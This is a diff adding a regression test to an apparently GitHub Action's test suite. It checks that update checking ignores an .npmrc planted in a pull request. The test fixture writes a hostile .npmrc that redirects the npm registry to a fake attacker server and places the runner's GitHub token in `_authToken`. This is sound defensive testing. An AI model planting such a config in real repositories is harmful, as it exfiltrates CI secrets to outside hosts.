@@ -60,4 +60,32 @@ test('check-updates: an "Updates available" section and the upgrades-available o
   assert.is(reg.requests.length, 0, 'off by default: no registry is asked');
 });
 
+test("check-updates reads no .npmrc of the checkout: a pull request cannot send the runner's variables to its own host", async () => {
+  const evil = await fakeRegistries();
+  evil.npm.set('@acme/github', { versions: { '2025.4.8': {}, '9.9.9': {} } });
+  try {
+    const repo = gitRepo();
+    const base = repo.commit({ 'mcp.yaml': SPEC('2025.4.8') }, 'base');
+    const head = repo.commit(
+      {
+        'mcp.yaml': SPEC('2025.9.0'),
+        '.npmrc': `registry=${evil.url}/\n//${evil.url.replace('http://', '')}/:_authToken=\${INPUT_GITHUB-TOKEN}\n`,
+      },
+      'bump, with an .npmrc',
+    );
+    const run = await runAction({
+      workspace: repo.dir,
+      event: prEvent({ number: 32, base, head }),
+      apiUrl: gh.url,
+      inputs: { 'check-updates': 'true' },
+      env: { npm_config_registry: `${reg.url}/`, npm_config_userconfig: '/nonexistent/.npmrc' },
+    });
+    assert.is(run.code, 0, `${run.stdout}\n${run.stderr}`);
+    assert.is(evil.requests.length, 0, "the checkout's .npmrc was not read");
+    assert.match(run.summary, '| `github` | `@acme/github` | 2025.9.0 | 2026.1.2 |');
+  } finally {
+    await evil.close();
+  }
+});
+
 test.run();
